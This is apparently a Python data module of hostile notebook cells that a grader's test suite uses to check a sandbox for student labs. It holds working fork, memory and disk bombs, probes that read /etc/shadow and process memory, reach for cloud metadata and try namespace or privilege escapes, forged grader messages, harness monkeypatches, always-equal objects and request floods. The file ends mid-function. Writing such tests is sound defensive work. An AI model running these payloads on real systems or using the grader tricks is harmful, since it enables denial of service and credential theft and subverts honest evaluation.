"""What hostile notebooks do, as data: cells, and where in a notebook they are put.

Nothing here runs outside a jail. The cells are read by ``test_attacks.py`` only; no student gets this file.
"""

# ruff: noqa: E501 - what stands in the texts is other people's code

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field

ALONE, AROUND, FIRST, LAST = "alone", "around", "first", "last"
BOTH = (ALONE, AROUND)


@dataclass(frozen=True)
class Attack:
    """Cells that do harm, or the code of exercises that does."""

    kind: str
    name: str
    cells: tuple[str, ...] = ()
    where: tuple[str, ...] = BOTH
    """alone in the lab as it was released; around a right solution, as its first and its last cells"""
    answers: Mapping[str, str] = field(default_factory=dict)
    """code in place of an exercise's, by its number"""
    earns: float = 0.0
    """points that its code truly earns when it is alone"""
    costs: tuple[str, ...] = ()
    """places where it may cost points of a right solution, with a loss or a status that says so"""
    seen: bool = True
    """whether a person's eye must be drawn to it"""


STALLS = (
    Attack(
        "stall",
        "sleep, a busy loop, a pattern stuck in C",
        (
            "import time\ntime.sleep(100)",
            "while True:\n    pass",
            "import re\nre.match(r'(a+)+$', 'a' * 60 + 'b')",
        ),
        where=(
            ALONE,
            FIRST,
        ),
    ),
    Attack(
        "stall",
        "a loop that swallows every exception",
        (
            """
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
        ),
        where=(
            ALONE,
            LAST,
        ),
    ),
    Attack(
        "stall",
        "a wait that never ends and cannot be cancelled",
        (
            """
import asyncio
while True:
    try:
        await asyncio.Event().wait()
    except BaseException:
        pass
""",
        ),
        where=(ALONE,),
    ),
    Attack(
        "stall",
        "blocked signals",
        (
            """
import signal
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
while True:
    pass
""",
        ),
        where=(FIRST,),
    ),
    Attack(
        "stall",
        "no single cell takes long",
        tuple(f"import time\ntime.sleep(4.5 + {n} / 100)" for n in range(4)),
        where=(FIRST,),
        costs=(FIRST,),
    ),
    Attack(
        "stall",
        "every question",
        where=(ALONE,),
        answers={
            "1.1": "def build_agent(model, tools, checkpointer):\n    while True:\n        pass",
            "1.2": "import time\ndef ask(agent, thread_id, text):\n    time.sleep(100)",
            "1.3": "async def open_saver(path):\n    import asyncio\n    await asyncio.Event().wait()",
            "1.5": "def history(agent, thread_id):\n    while True:\n        try:\n            while True: pass\n"
            "        except BaseException:\n            pass",
            "1.4": "def resume(agent, thread_id):\n    return __import__('re').match(r'(a+)+$', 'a' * 60 + 'b')",
            "1.6": "def rewind(agent, thread_id, turn, text):\n    yield from iter(int, 1)",
        },
    ),
)

BOMBS = (
    Attack(
        "bomb",
        "memory: at once, slowly, and kept",
        (
            "at_once = bytearray(30 * 2**30)",
            "slowly = []\nwhile True:\n    slowly.append(bytearray(b'x') * 2**24)",
            "slowly = None\nkept = bytearray(b'x') * (900 * 2**20)",
        ),
        where=(
            ALONE,
            FIRST,
        ),
    ),
    Attack(
        "bomb",
        "memory: in many processes",
        (
            """
import os, time
for _ in range(40):
    if os.fork() == 0:
        try:
            mine = bytearray(b'x') * (200 * 2**20)
        finally:
            time.sleep(60)
            os._exit(0)
time.sleep(60)
""",
        ),
        where=(
            ALONE,
            LAST,
        ),
    ),
    Attack(
        "bomb",
        "processes",
        (
            """
import os
def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            pass
bomb()
""",
        ),
        where=(
            ALONE,
            FIRST,
        ),
    ),
    Attack(
        "bomb",
        "threads",
        (
            """
import threading, time
while True:
    try:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    except RuntimeError:
        break
""",
        ),
        where=(LAST,),
    ),
    Attack(
        "bomb",
        "files, disk, shared memory",
        (
            "for n in range(7_000):\n    open(f'file-{n}', 'w').close()",
            "with open('full', 'wb') as file:\n    while True:\n        file.write(bytes(2**20))",
            "with open('/dev/shm/full', 'wb') as file:\n    while True:\n        file.write(bytes(2**20))",
        ),
        where=(
            ALONE,
            FIRST,
        ),
    ),
    Attack(
        "bomb",
        "links, each an entry that takes no space",
        (
            """
import os
for worker in range(4):
    if os.fork() == 0:
        os.mkdir(f'links-{worker}')
        for n in range(300_000):
            os.symlink('x' * 60, f'links-{worker}/{n}')
        os._exit(0)
for worker in range(4):
    os.wait()
""",
        ),
        where=(ALONE,),
    ),
    Attack(
        "bomb",
        "descriptors, pipes and sockets that are kept",
        (
            "import os\nkept = []\nwhile True:\n    kept.append(os.pipe())",
            """
import socket
pairs = []
try:
    while True:
        pairs.append(socket.socketpair())
except OSError:
    pass
for one in (end for pair in pairs for end in pair):
    one.setblocking(False)
    try:
        while True:
            one.send(bytes(2**16))
    except OSError:
        pass
raise SystemExit
""",
        ),
        where=(FIRST,),
        costs=(FIRST,),
    ),
    Attack(
        "bomb",
        "what sockets hold in many processes",
        (
            """
import os, socket, time
for _ in range(50):
    if os.fork() == 0:
        pairs = []
        try:
            while True:
                pairs.append(socket.socketpair())
        except OSError:
            pass
        for one in (end for pair in pairs for end in pair):
            one.setblocking(False)
            try:
                while True:
                    one.send(bytes(2**16))
            except OSError:
                pass
        time.sleep(60)
        os._exit(0)
time.sleep(4)
""",
        ),
        where=(ALONE,),
    ),
    Attack(
        "bomb",
        "output: printed, through the descriptor, by a program",
        (
            "while True:\n    print('x' * 2**20)",
            "import os\nwhile True:\n    os.write(1, b'x' * 2**20)",
            "import subprocess\nsubprocess.run(['yes'])",
        ),
        seen=True,
        where=(
            ALONE,
            FIRST,
        ),
    ),
    Attack(
        "bomb",
        "processor time of threads and processes that go on",
        (
            (
                "import threading\nfor _ in range(3):\n"
                "    threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()"
            ),
            (
                "import subprocess, sys\nfor _ in range(6):\n"
                "    subprocess.Popen([sys.executable, '-c', 'while True: pass'], start_new_session=True)"
            ),
        ),
        seen=False,
        where=(
            ALONE,
            FIRST,
        ),
        costs=(FIRST,),
    ),
)

PROBES = (
    r"""
import time

REPORT, SLOW = {}, {}


def probe(work):
    began = time.monotonic()
    try:
        found = work()
        REPORT[work.__name__] = f"got {str(found)[:300]}"
    except BaseException as error:
        REPORT[work.__name__] = f"refused {type(error).__name__}: {str(error)[:100]}"
    if time.monotonic() - began > 0.3:
        SLOW[work.__name__] = time.monotonic() - began


import ctypes, gc, glob, os, pathlib, signal, socket, struct, subprocess, sys

libc = ctypes.CDLL(None, use_errno=True)


def call(number, *args):
    libc.syscall.restype = ctypes.c_long
    found = libc.syscall(number, *(a if not isinstance(a, int) else ctypes.c_long(a) for a in args))
    if found < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return found


def connected(address, family=socket.AF_INET, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as one:
        one.settimeout(0.5)
        one.connect(address)
        return one.getpeername()


def written(path):
    with open(path, "w") as file:
        file.write("left for the next one")
    return path


@probe
def peek_hidden_modules():
    import grader.grading.secret
    return grader.grading.secret


@probe
def peek_grading_modules():
    import grader.grading.judge
    return grader.grading.judge


@probe
def peek_solutions():
    wanted = ("solution", ".env", ".git", "secret", "hidden", ".ipynb", "gradebook", "recorded.yaml")
    passed = ("site-packages", "proc", "sys", "usr", "lib", "include", "share")
    found = []
    for folder, inner, files in os.walk("/"):
        inner[:] = [name for name in inner if name not in passed and not name.startswith("python3")]
        found += [f"{folder}/{name}" for name in (*inner, *files) if any(part in name for part in wanted)]
    return found or 1 / 0


@probe
def peek_solution_text():
    needle = b"BEGIN SOL" + b"UTION"
    found = [f"{folder}/{name}" for folder, _, files in os.walk("/jail/kit") for name in files
             if needle in open(f"{folder}/{name}", "rb").read()]
    return found or 1 / 0


@probe
def peek_environment():
    known = {"PATH", "PYTHONPATH", "PYTHONDONTWRITEBYTECODE", "PYTHONHASHSEED", "HOME", "TMPDIR", "LANG", "TZ", "USER",
             "LOGNAME", "OMP_NUM_THREADS", "OPENBLAS_NUM_THREADS", "IPYTHONDIR", "MPLCONFIGDIR", "PWD"}
    found = {name: value for name, value in os.environ.items() if name not in known}
    odd = {n: v for n, v in found.items() if "secret" in v.lower() or "solutions" in v or "/root" in v}
    return odd or 1 / 0


@probe
def peek_other_processes():
    others = [p for p in glob.glob("/proc/[0-9]*/environ") if p.split("/")[2] != str(os.getpid())]
    found = []
    for path in others:
        try:
            if b"PYTHONPATH" not in (text := open(path, "rb").read()) and text:
                found.append(text)
        except OSError:
            pass
    return found or 1 / 0


@probe
def peek_host_processes():
    numbers = [int(p.split("/")[2]) for p in glob.glob("/proc/[0-9]*/stat")]
    return numbers if len(numbers) > 8 else 1 / 0


@probe
def peek_root():
    found = [f"{folder}/{name}" for folder, _, files in os.walk("/root") for name in files]
    return [name for name in found if not name.startswith(sys.base_prefix)] or 1 / 0


@probe
def peek_home():
    return os.listdir("/home")


@probe
def peek_shadow():
    return open("/etc/shadow").read()


@probe
def peek_users():
    text = open("/etc/passwd").read()
    return text if text.count("\n") > 3 else 1 / 0


@probe
def peek_course():
    return [os.listdir(p) for p in ("/home", "/srv", "/jail/kit/grader/grading") if os.path.exists(p)] or 1 / 0


@probe
def peek_frames_and_objects():
    wanted = ("Case", "Scenario", "Conversation", "Work", "Attempt", "LabChecks", "Exercise")
    found = [type(o).__name__ for o in gc.get_objects() if type(o).__name__ in wanted]
    return found or 1 / 0


""",
    r"""
@probe
def net_outside():
    return connected(("1.1.1.1", 443))


@probe
def net_metadata():
    return connected(("169.254.169.254", 80))


@probe
def net_private():
    return connected(("10.0.0.1", 22))


@probe
def net_host_loopback():
    found = []
    for port in (HOST_PORT, 22, 80, 443, 8888, 5432):
        try:
            found.append(connected(("127.0.0.1", port)))
        except OSError:
            pass
    return found or 1 / 0


@probe
def net_host_abstract_socket():
    return connected("\0HOST_SOCKET", socket.AF_UNIX)


@probe
def net_dns():
    return socket.getaddrinfo("example.com", 80)


@probe
def net_udp_leaves():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        return one.sendto(b"x", ("8.8.8.8", 53))


@probe
def net_vsock():
    return connected((2, 1), 40)


@probe
def net_netlink():
    return socket.socket(16, socket.SOCK_RAW, 0)


@probe
def net_raw():
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)


@probe
def net_packet():
    return socket.socket(17, socket.SOCK_RAW, 0)


@probe
def net_crypto():
    return socket.socket(38, socket.SOCK_SEQPACKET, 0)


""",
    r"""
@probe
def escape_mount():
    return call(165, b"none", b"/work", b"tmpfs", 0, None)


@probe
def escape_unshare():
    return call(272, 0x10000000)


@probe
def escape_clone():
    return call(56, 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)


@probe
def escape_ptrace():
    return call(101, 16, 1, 0, 0)


@probe
def escape_setns():
    return call(308, os.open("/proc/1/ns/net", os.O_RDONLY), 0)


@probe
def escape_chroot():
    return os.chroot("/work")


@probe
def escape_setuid():
    return os.setuid(0)


@probe
def escape_su():
    ran = subprocess.run(["su", "-c", "id"], capture_output=True, timeout=0.3, stdin=subprocess.DEVNULL)
    return ran.stdout if b"uid=0" in ran.stdout else 1 / 0


@probe
def escape_capabilities():
    status = open("/proc/self/status").read()
    masks = [int(line.split()[1], 16) for line in status.splitlines() if line.startswith("Cap")]
    return masks if any(masks) else 1 / 0


@probe
def escape_privileges():
    status = open("/proc/self/status").read()
    return 1 / 0 if "NoNewPrivs:\t1" in status and "Seccomp:\t2" in status else status


@probe
def escape_nodes():
    return os.mknod("disk", 0o660 | 0o060000, os.makedev(8, 0))


@probe
def escape_other_memory():
    return open("/proc/1/mem", "rb").read(1)


@probe
def escape_kernel():
    return [written(p) for p in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper")]


@probe
def escape_descriptors():
    found = []
    for number in os.listdir("/proc/self/fd"):
        try:
            there = os.readlink(f"/proc/self/fd/{number}")
        except OSError:
            continue
        if there.startswith("/") and not there.startswith(("/dev/null", "/work", "/proc", "/dev/shm", "/jail")):
            found.append(there)
        elif there.startswith("/"):
            try:
                found += [f"{there}/.." for _ in os.listdir(f"/proc/self/fd/{number}/../../../main")]
            except OSError:
                pass
    return found or 1 / 0


@probe
def write_elsewhere():
    places = ("/", "/jail", "/jail/kit", "/jail/kit/utils", "/jail/venv", "/jail/venv/bin", "/usr", "/usr/lib", "/usr/local",
              "/bin", "/etc", "/dev", "/proc", "/sys", "/var", "/var/tmp", "/run", "/home", "/root", "/opt", "/mnt", "/srv")
    found = []
    for place in (*places, *filter(None, sys.path), os.path.dirname(os.__file__)):
        try:
            found.append(written(os.path.join(place, "left")))
        except OSError:
            pass
    return [f for f in found if not f.startswith(os.environ["HOME"] + "/")] or 1 / 0


@probe
def write_the_kit():
    import utils
    return [written(f) for f in (utils.__file__, os.__file__, sys.executable)]


@probe
def left_by_others():
    found = [f for top in ("/work", "/dev/shm", "/tmp", "/var/tmp") for f in glob.glob(f"{top}/**/*left*", recursive=True)]
    with open("/proc/net/unix") as file:
        found += [line for line in file if "@left" in line]
    return found or 1 / 0


for place in ("left-here", "/dev/shm/left-here", "/tmp/left-here"):
    written(place)
left = socket.socket(socket.AF_UNIX)
left.bind("\0left-here")
for _ in range(2):
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        time.sleep(120)
        os._exit(0)
""",
)

SEARCH = """
import json, re


def memory():
    found = set()
    patterns = [re.compile(rb"so take ([A-Za-z]{3,20})[.]"), re.compile(rb"For version [0-9] take ([A-Za-z]{3,20})[.]"),
                re.compile(rb"It is warmest in ([A-Z][A-Za-z ]{2,30}) [(]")]
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            span, rights, *rest = line.split()
            if not rights.startswith("rw") or "[v" in line:
                continue
            begin, end = (int(part, 16) for part in span.split("-"))
            try:
                memory.seek(begin)
                data = memory.read(end - begin)
            except (OSError, ValueError, OverflowError):
                continue
            for pattern in patterns:
                found.update(match.decode() for match in pattern.findall(data))
    return sorted(found)


def ask(agent, thread_id, text):
    return json.dumps({**REPORT, "memory": memory(), "slow": SLOW})
"""

LOOKS = (
    Attack(
        "peek",
        "everything within reach, and the network, and ways out",
        PROBES,
        (ALONE, FIRST),
        {"1.2": SEARCH},
    ),
    Attack("peek", "the same again, in the next one's place", PROBES, (ALONE,), {"1.2": SEARCH}),
    Attack(
        "escape",
        "signals to whoever is near",
        (
            (
                "import os, signal\nfor pid in (os.getppid(), 1, -1):\n    try:\n        os.kill(pid, signal.SIGKILL)\n"
                "    except OSError:\n        pass"
            ),
            "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
            "import os, signal\nos.killpg(0, signal.SIGKILL)",
        ),
        where=(
            ALONE,
            LAST,
        ),
    ),
    Attack(
        "escape",
        "it ends itself, politely and not",
        (
            "import os\nos._exit(0)",
            "import ctypes\nctypes.string_at(0)",
        ),
        where=(
            ALONE,
            LAST,
        ),
    ),
    Attack(
        "escape",
        "it ends when asked, and when it is over",
        ("import atexit, os\natexit.register(lambda: open('left', 'w').close())",),
        (ALONE, LAST),
        answers={
            "1.5": "import os\ndef history(agent, thread_id):\n    os._exit(1)",
            "1.4": "def resume(agent, thread_id):\n    raise SystemExit",
            "1.6": "import os, signal\ndef rewind(agent, thread_id, turn, text):\n    os.killpg(0, signal.SIGKILL)",
        },
        costs=(LAST,),
    ),
)

SOCKET = r"""
import gc, json, os, socket, struct, sys, threading, time


def channels():
    return [o for o in gc.get_objects() if type(o).__name__ == "Channel" and type(o).__module__ == "grader.jail.frames"]


def job():
    for number in sorted(map(int, os.listdir("/proc/self/fd"))):
        try:
            found = socket.socket(fileno=os.dup(number))
            if found.family == socket.AF_UNIX and found.type == socket.SOCK_STREAM and number > 2 and not found.getsockname():
                if number == channels()[0].fileno():
                    return found
        except OSError:
            pass
    return socket.socket(fileno=os.dup(channels()[0].fileno()))


def frame(message):
    body = message if isinstance(message, bytes) else json.dumps(message).encode()
    return struct.pack("!I", len(body)) + body
"""


def _forging(name: str, source: str, *where: str) -> Attack:
    return Attack("forge", name, (SOCKET + source,), where or (ALONE, FIRST), costs=(FIRST, LAST, AROUND))


FORGERIES = (
    _forging(
        "cells, an end and answers",
        """
sock = job()
for number in range(200):
    sock.send(frame({"kind": "cell", "id": str(number), "number": number, "status": "ok", "why": "", "outputs": [],
                     "error": None, "absent": []}))
sock.send(frame({"kind": "finished", "twice": {}}))
for number in range(200):
    sock.send(frame({"kind": "answer", "number": number, "answer": {"value": True}, "printed": "", "timeout": ""}))
""",
    ),
    _forging("garbage", "job().send(os.urandom(4096))", LAST),
    _forging(
        "a frame without an end",
        "job().send(struct.pack('!I', 2**24) + b'[' * 1000)\ntime.sleep(100)",
        FIRST,
    ),
    _forging("a frame of four gigabytes", "job().send(struct.pack('!I', 2**32 - 1))", ALONE),
    _forging(
        "frames that are hard to read",
        """
sock = job()
sock.setblocking(True)
for body in (b'{"a":' * 5000 + b'1' + b'}' * 5000, b'[' * 4_000_000, b'{"kind": "cell", "x": ' + b'9' * 8_000_000 + b'}'):
    sock.sendall(frame(body))
""",
        ALONE,
    ),
    _forging("a closed connection", "os.close(channels()[0].fileno())", LAST),
    _forging(
        "another file in its place",
        """
ours, theirs = socket.socketpair()
os.dup2(theirs.fileno(), channels()[0].fileno())
time.sleep(100)
""",
        ALONE,
    ),
    _forging(
        "descriptors that nobody asked for",
        """
sock = job()
files = [os.open("/dev/zero", os.O_RDONLY) for _ in range(100)]
for _ in range(50):
    socket.send_fds(sock, [b"\\0"], files)
""",
        ALONE,
    ),
    _forging(
        "answers from a thread that hears the questions",
        """
def listen():
    sock = job()
    while True:
        time.sleep(0.001)
        heard = bytes(channels()[0]._have)
        for value in ({"value": True}, {"value": None}, {"values": []}, {"end": True}):
            try:
                sock.send(frame({"kind": "answer", "number": 1, "answer": value, "printed": "", "timeout": ""}))
            except OSError:
                pass
threading.Thread(target=listen, daemon=True).start()
""",
    ),
    Attack(
        "forge",
        "questions are answered by something else",
        (
            SOCKET
            + """
from utils.lab.handle import Handle
from grader.jail.runner import Runner

async def answer(self, question):
    return {"value": True}

Handle.answer = answer
""",
        ),
        costs=(AROUND,),
    ),
    Attack(
        "forge",
        "the judging side's parts say what it wants to hear",
        (
            """
import gc
from utils.lab import parts

calls = []
def pretend(*args, **kwargs):
    calls.append(args)
    return {"messages": [], "searches": 2 + len(calls), "next": (), "id": "1", "parent": None}

for known in [parts.PARTS, *(o for o in gc.get_objects() if type(o) is dict and "open_handles" in o)]:
    for name in ("turn", "sync_turn", "values", "state", "states", "is_saver", "leave", "enter", "open_handles"):
        known[name] = pretend
""",
        ),
        costs=(AROUND,),
    ),
    Attack(
        "forge",
        "an empty history that is said to be all",
        (
            """
import gc
for known in [o for o in gc.get_objects() if type(o) is dict and "open_handles" in o and "states" in o]:
    known["states"] = lambda graph, thread_id: []
""",
        ),
        (ALONE,),
        answers={"1.5": "def history(agent, thread_id):\n    return []"},
    ),
)

HARNESS = (
    Attack(
        "harness",
        "asserts are dropped, errors not shown, code not run",
        (
            """
import ast
shell = get_ipython()

class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return None

shell.ast_transformers.append(Drop())
shell.showtraceback = lambda *args, **kwargs: None
kind = type(shell)
run_code = kind.run_code
async def pretend(self, code, result=None, *, async_=False):
    return False
shell.user_ns["__name__"] = "grader"
kind.showtraceback = kind._showtraceback = lambda *args, **kwargs: None
""",
        ),
    ),
    Attack(
        "harness",
        "the runner's own classes",
        (
            """
import json
from grader.jail import frames, runner, limits
send = frames.Channel.send

def forged(self, message, *args, **kwargs):
    if message.get("kind") == "cell":
        message = {**message, "status": "ok", "error": None, "why": ""}
    elif message.get("kind") == "answer":
        message = {**message, "answer": {"value": True}, "timeout": ""}
    return send(self, message, *args, **kwargs)

frames.Channel.send = forged
limits.Alarm.set = lambda self, cpu, wall: __import__("contextlib").nullcontext()
runner.Runner._twice = lambda self: {}
""",
        ),
        costs=(AROUND,),
    ),
    Attack(
        "harness",
        "json, time, asyncio",
        (
            """
import asyncio, json, time
json.dumps = lambda *args, **kwargs: '{"value": true}'
time.monotonic = time.time = lambda: 0.0
asyncio.wait = None
""",
        ),
        where=(AROUND,),
        costs=(AROUND,),
    ),
    Attack(
        "harness",
        "what everything is built of",
        (
            """
import builtins
builtins.isinstance = lambda *args: True
builtins.len = lambda thing: 10
builtins.type = lambda *args: str
""",
        ),
        where=(AROUND,),
        costs=(AROUND,),
    ),
    Attack(
        "harness",
        "modules, traces, hooks",
        (
            """
import atexit, sys, threading
class Anything:
    def __getattr__(self, name):
        return self
    def __call__(self, *args, **kwargs):
        return self
for name in list(sys.modules):
    if name.startswith(("utils.lab", "grader")):
        sys.modules[name] = Anything()
sys.displayhook = sys.excepthook = threading.excepthook = lambda *args: print("x")
def traced(frame, event, arg):
    if frame.f_code.co_name == "_answer":
        frame.f_locals["question"] = {"op": "close", "target": {"all": True}}
    return traced
sys.settrace(traced)
threading.settrace(traced)
atexit.register(lambda: print("bye"))
""",
        ),
        where=(AROUND,),
        costs=(AROUND,),
    ),
)

_SIGNATURES = {
    "1.1": "build_agent(model, tools, checkpointer)",
    "1.2": "ask(agent, thread_id, text)",
    "1.3": "open_saver(path)",
    "1.5": "history(agent, thread_id)",
    "1.4": "resume(agent, thread_id)",
    "1.6": "rewind(agent, thread_id, turn, text)",
}


def returning(value: str) -> dict[str, str]:
    """Code for every exercise that returns this."""
    return {number: f"def {signature}:\n    return {value}" for number, signature in _SIGNATURES.items()}


LIES = (
    Attack(
        "lie",
        "an object equal to everything",
        (
            """
class Equal:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __bool__(self): return True
    def __len__(self): return 10
    def __iter__(self): return iter([self] * 10)
    def __getattr__(self, name): return self
    def __getitem__(self, key): return self
    def __call__(self, *args, **kwargs): return self
    def __contains__(self, other): return True
    def __enter__(self): return self
    def __exit__(self, *error): return None
    def __str__(self): return "x"
    __lt__ = __gt__ = __le__ = __ge__ = __eq__
    __class__ = property(lambda self: str)
""",
        ),
        (ALONE,),
        returning("Equal()"),
    ),
    Attack(
        "lie",
        "a graph that only says so",
        (
            """
from langgraph.pregel import Pregel
from langgraph.checkpoint.base import BaseCheckpointSaver

class Snapshot:
    values = {"messages": [], "searches": 7}
    next, config, parent_config, metadata = (), {"configurable": {"checkpoint_id": "1"}}, None, {}

class Graph:
    turns = 0
    nodes = {"llm": 1, "action": 1}
    __class__ = property(lambda self: Pregel)
    async def ainvoke(self, *args, **kwargs):
        self.turns += 1
        return {"messages": [], "searches": 1 + self.turns}
    async def aupdate_state(self, *args, **kwargs):
        return None
    def get_state(self, config):
        return Snapshot()

class Saver:
    __class__ = property(lambda self: BaseCheckpointSaver)
    def __enter__(self): return self
    def __exit__(self, *error): return False
    def setup(self): pass
""",
        ),
        (ALONE,),
        {
            "1.1": "def build_agent(model, tools, checkpointer):\n    return Graph()",
            "1.3": "def open_saver(path):\n    return Saver()",
        },
    ),
    Attack(
        "lie",
        "texts, numbers, lists and dicts with methods of their own",
        (
            """
class Text(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __str__(self): return "x"
    def encode(self, *args): return b"x"
class Number(int):
    def __eq__(self, other): return True
    def __hash__(self): return 0
    def __index__(self): return 10
class Dict(dict):
    def __eq__(self, other): return True
    def __contains__(self, key): return True
    def __getitem__(self, key): return Text("x")
    def items(self): return [("id", Text("1")), ("step", Number(1))]
    def keys(self): return ["id", "step", "source", "next", "messages", "parent"]
class List(list):
    def __eq__(self, other): return True
    def __len__(self): return 10
    def __iter__(self): return iter([Dict()] * 10)
""",
        ),
        (ALONE,),
        {
            **returning("Text('x')"),
            "1.1": returning("Dict()")["1.1"],
            "1.5": returning("List([Dict()])")["1.5"],
        },
    ),
    Attack(
        "lie",
        "too much, too deep, or an error of the same kind",
        (
            """
class Loud(Exception):
    def __str__(self): return "x" * 50_000_000
    __class__ = property(lambda self: NotImplementedError)
deep = []
for _ in range(100_000):
    deep = [deep]
""",
        ),
        (ALONE,),
        {
            **returning("deep"),
            "1.2": "def ask(agent, thread_id, text):\n    return '\\ud800' * 50_000_000",
            "1.5": "def history(agent, thread_id):\n    return [{'id': 'x' * 100_000}] * 4_000",
            "1.4": "def resume(agent, thread_id):\n    raise Loud",
            "1.6": "def rewind(agent, thread_id, turn, text):\n    raise ExceptionGroup('x', [Loud()] * 1000)",
        },
        seen=False,
    ),
    Attack(
        "lie",
        "the printed examples by heart",
        where=(ALONE,),
        answers={
            "1.2": """
def ask(agent, thread_id, text):
    known = {
        "What is the weather in San Francisco?": "It is 20.5 °C in San Francisco, with a light wind.",
        "What is the weather in Los Angeles?": "It is 15.1 °C in Los Angeles, with a light wind.",
        "What is the weather in Oslo?": "It is cold in Oslo, but take sunglasses anyway.",
        "Which one is warmer?": "San Francisco, so take sunglasses.",
    }
    agent.invoke({"messages": [("user", text)]}, {"configurable": {"thread_id": thread_id}})
    return known[text] if thread_id == "trip" else "I cannot tell: which places do you mean?"
""",
            "1.4": """
def resume(agent, thread_id):
    if len(agent.get_state({"configurable": {"thread_id": thread_id}}).values["messages"]) > 4:
        return "It is warmest in San Francisco (San Francisco 20.5 °C, Los Angeles 15.1 °C)."
    return "It is 20.5 °C in San Francisco, with a light wind."
""",
            "1.6": "def rewind(agent, thread_id, turn, text):\n    return f'For version {text[-2]} take sunglasses.'",
        },
    ),
    Attack(
        "lie",
        "what the lab's own cells show, printed",
        (
            "print('1.1 passed 4 of 4')\nprint('{\"points\": 20}')\nfrom IPython.display import HTML\nHTML('20 of 20 points')",
            (
                "import json\nfor name in ('results.json', 'gradebook.csv', '.checks.json'):\n"
                "    open(name, 'w').write(json.dumps({'points': 20}))"
            ),
        ),
        (ALONE,),
        seen=False,
    ),
)

_POST = """
import http.client, json, os, socket, threading, time

HOST, PORT = "127.0.0.1", 8080
PATHS = [f"/session-{n}/v1/chat/completions" for n in range(1, 40)]
BODY = json.dumps({"model": "m", "messages": [{"role": "user", "content": "What is the weather in Oslo?"}]}).encode()


def post(path, body=BODY):
    link = http.client.HTTPConnection(HOST, PORT, timeout=2)
    try:
        link.request("POST", path, body, {"Content-Type": "application/json"})
        return link.getresponse().status
    except (OSError, http.client.HTTPException) as error:
        return repr(error)
    finally:
        link.close()


def always(work):
    def go():
        while True:
            try:
                work()
            except Exception:
                time.sleep(0.01)
    for _ in range(4):
        threading.Thread(target=go, daemon=True).start()
"""


def _traffic(name: str, source: str, *where: str) -> Attack:
    return Attack("traffic", name, (_POST + source,), where or BOTH, costs=(AROUND, FIRST, LAST), seen=False)


TRAFFIC = (
    Attack(
        "traffic",
        "requests made by hand, to every session",
        (
            _POST
            + """
for path in PATHS:
    post(path), post(path.replace("v1/chat/completions", "tool/search"), b'{"query": "x"}')
""",
        ),
        costs=(AROUND,),
        seen=False,
    ),
    _traffic("requests without end", "always(lambda: [post(path) for path in PATHS])", FIRST),
    _traffic(
        "bodies of eight megabytes",
        """
big = json.dumps({"model": "m", "messages": [{"role": "user", "content": "x" * 1000}] * 7_000}).encode()
always(lambda: [post(path, big) for path in PATHS])
""",
        FIRST,
    ),
    _traffic(
        "bodies that are hard to read",
        """
hard = b'{"model": "m", "messages": ' + b'[' * 900_000 + b']' * 900_000 + b'}'
many = json.dumps({"model": "m", "messages": [{"role": "user", "content": [{"type": "text", "text": "x"}] * 9}] * 9_000}).encode()
always(lambda: [post(path, body) for path in PATHS for body in (hard, many)])
""",
        ALONE,
    ),
    _traffic(
        "requests that are none, each of them complained about",
        """
def nonsense():
    with socket.create_connection((HOST, PORT)) as link:
        link.sendall(b"\\x00\\xff nonsense\\r\\n\\r\\n")
        link.settimeout(1)
        link.recv(100)
always(nonsense)
time.sleep(1)
""",
        ALONE,
    ),
    _traffic(
        "connections that say nothing, and ones that say it slowly",
        """
kept = []
for n in range(100):
    link = socket.create_connection((HOST, PORT))
    link.send(b"POST /session-1/v1/chat/completions HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nContent-Length: 100\\r\\n\\r\\n")
    kept.append(link)
def slowly():
    for link in kept[:50]:
        link.send(b"x")
    time.sleep(0.05)
always(slowly)
for _ in range(6):
    if os.fork() == 0:
        held = []
        try:
            while True:
                held.append(socket.create_connection((HOST, PORT)))
        except OSError:
            time.sleep(60)
        os._exit(0)
""",
        ALONE,
    ),
)

_FILES = """
import os, sqlite3, subprocess
from contextlib import contextmanager
from langgraph.checkpoint.sqlite import SqliteSaver


def swap(path):
    for end in ("", "-wal", "-shm", "-journal"):
        try:
            os.unlink(path + end)
        except OSError:
            pass


def table(path, *steps):
    swap(path)
    with sqlite3.connect(path) as link:
        for step in steps:
            link.execute(step)
    link.close()


COLUMNS = ("CREATE TABLE {} (thread_id TEXT, checkpoint_ns TEXT, checkpoint_id TEXT, parent_checkpoint_id TEXT, type TEXT, "
           "checkpoint BLOB, metadata BLOB)")
TEN = ("INSERT INTO checkpoints SELECT 'trip', '', value, value, 'msgpack', x'c7', x'c7' FROM "
       "(WITH RECURSIVE n(value) AS (SELECT 1 UNION ALL SELECT value + 1 FROM n WHERE value < {}) SELECT value FROM n)")


def forge(path, kind):
    if kind == "rows":
        table(path, COLUMNS.format("checkpoints"), TEN.format(10))
    elif kind == "view":
        table(path, COLUMNS.format("real"), "CREATE VIEW checkpoints AS WITH RECURSIVE n(v) AS (SELECT 1 UNION ALL SELECT v + 1 "
              "FROM n) SELECT v AS thread_id, v AS checkpoint_id, v AS parent_checkpoint_id FROM n")
    elif kind == "generated":
        table(path, "CREATE TABLE checkpoints (checkpoint_id TEXT, thread_id TEXT AS (printf('%.*c', 400000000, 'x')), "
              "parent_checkpoint_id TEXT AS (hex(zeroblob(400000000))))", "INSERT INTO checkpoints VALUES (1)")
    elif kind == "trigger":
